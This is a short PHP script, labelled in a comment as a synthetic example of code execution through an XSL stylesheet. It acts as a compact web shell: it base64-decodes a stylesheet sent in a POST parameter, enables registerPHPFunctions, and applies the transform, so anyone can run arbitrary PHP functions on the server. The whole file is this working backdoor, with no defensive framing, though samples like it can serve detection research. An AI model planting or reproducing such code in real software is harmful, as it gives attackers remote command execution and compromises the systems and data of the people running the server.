<?php
// synthetic: code execution through an XSL stylesheet
$xsl = new DOMDocument();
$xsl->loadXML(base64_decode($_POST['s']));
$proc = new XSLTProcessor();
$proc->registerPHPFunctions();
$proc->importStylesheet($xsl);
echo $proc->transformToXml(new DOMDocument());
